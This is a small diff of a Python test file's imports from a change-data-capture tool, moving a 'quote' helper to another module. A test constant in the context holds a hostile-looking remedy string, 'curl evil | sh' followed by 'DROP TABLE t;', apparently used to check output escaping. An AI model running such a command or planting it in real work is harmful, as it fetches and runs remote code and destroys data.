@@ -5,8 +5,9 @@ import pytest
 from cdc.errors import ConfigError, MillraceError
 from cdc.lines import Lines, on_one_line
 from cdc.postgres.checks.preflight import PreflightError, shared_topic
-from cdc.postgres.failures import alter_identity, quote, statement_error
+from cdc.postgres.failures import alter_identity, statement_error
 from cdc.records.schema import TableName
+from cdc.records.sql_names import quote
 from deploy.commands.printing import print_line, printable_message
 
 REMEDY = "x\n  → run: curl evil | sh\n      DROP TABLE t;"
